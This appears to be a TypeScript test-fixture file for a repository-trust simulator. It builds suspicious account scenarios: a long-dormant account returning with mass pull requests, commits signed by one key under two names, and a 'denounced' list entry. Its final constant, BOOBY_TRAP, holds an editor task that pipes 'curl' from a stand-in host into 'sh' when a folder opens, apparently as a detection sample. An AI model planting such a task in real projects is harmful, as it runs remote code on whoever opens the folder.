import { addRepository, addUser } from "@sallyport/simulator/src/build/build.ts";
import { addHistory, addPush } from "@sallyport/simulator/src/build/build-history.ts";
import {
  addKeys,
  contributeElsewhere,
  type Elsewhere,
  ownProject,
} from "@sallyport/simulator/src/scenarios/history.ts";
import type { User, World } from "@sallyport/simulator/src/world/world.ts";
import { plusDays } from "../../src/clock.ts";
import { accountId } from "../../src/ids.ts";
import type { TenantStore } from "../../src/store/store.ts";
import { pgpHeader } from "./made-repository.ts";

interface Life {
  readonly login: string;
  readonly places: readonly Elsewhere[];
  readonly now: string;
  /** What its two repositories hold; left out, a few ordinary steps. */
  readonly project?: typeof ownProject;
}

/** Silent for six years, then back with new keys, new repositories only, and pull requests to thirty owners in a week. */
export function returnedAccount(world: World, { login, places, now, project = ownProject }: Life): User {
  const ago = (days: number): string => plusDays(now, -days);
  const person = addUser(world, { login, createdAt: ago(3_150) });
  for (const [index, place] of places.slice(0, 10).entries())
    contributeElsewhere(world, place, {
      author: person,
      at: ago(3_050 - index * 70),
      title: `Old fix ${index + 1}`,
      merged: index % 2 === 0,
    });
  addKeys(world, person, ago(24));
  for (const name of ["token-tools", "bridge-kit"]) project(world, person, { name, createdAt: ago(23) });
  for (const [index, place] of places.entries())
    contributeElsewhere(world, place, { author: person, at: ago(6 - index / 6), title: "Improve", merged: false });
  return person;
}

/**
 * A repository whose commits one key made under two unrelated names, as GitHub verified; with `references`, they refer
 * to pull requests that were never there.
 */
export const twoHanded =
  (other: User, { references }: { readonly references: boolean }): typeof ownProject =>
  (world, owner, { name, createdAt }) => {
    const repository = addRepository(world, { owner, name, createdAt });
    const hands = [owner, other].map((user, index) => ({
      name: ["Ada Example", "Bo Sample"][index] ?? "",
      email: `${user.id}+${user.login}@users.noreply.github.com`,
      user,
    }));
    const commits = Array.from({ length: 24 }, (_, index) => {
      const { user, ...hand } = hands[index % 2] ?? { name: "", email: "", user: owner };
      const at = plusDays(createdAt, index / 3 + ((index * index * 37) % 400) / 4_000);
      return {
        author: { ...hand, at, offsetMinutes: 60 },
        message: references ? `Step ${index} (#${index + 700})` : `Step ${index}`,
        files: { "README.md": `${name} ${index}\n` },
        signature: armour("00112233aabbccdd"),
        signedBy: user,
      };
    });
    addHistory(world, repository, commits);
    addPush(world, repository, { by: owner, at: plusDays(createdAt, 9) });
    return repository;
  };

/** A signature that names a key, without the header that holds it in a commit. */
export const armour = (keyId: string): string =>
  pgpHeader(keyId)
    .replace(/^gpgsig /, "")
    .replaceAll("\n ", "\n")
    .trim();

/** Puts a warning on the organisation's own list, as two of its owners: the second one has no account in the world. */
export async function denounce(
  tenant: TenantStore,
  person: User,
  { by, now }: { by: User; now: string },
): Promise<void> {
  const account = accountId(person.id);
  await tenant.addToLocalList(account, {
    disposition: "denounced",
    reason: "Asked to look twice",
    by: { accountId: accountId(by.id), login: by.login },
    repository: null,
    at: plusDays(now, -1),
    until: plusDays(now, 90),
  });
  const [entry] = await tenant.listEntries(account, now);
  await tenant.confirmEntry(entry?.id ?? 0, accountId(1), now);
}

/** An editor task that fetches and runs something when the folder is opened. */
export const BOOBY_TRAP = JSON.stringify({
  version: "2.0.0",
  tasks: [
    {
      label: "setup",
      type: "shell",
      command: "curl -s https://example.invalid/s | sh",
      runOptions: { runOn: "folderOpen" },
    },
  ],
});
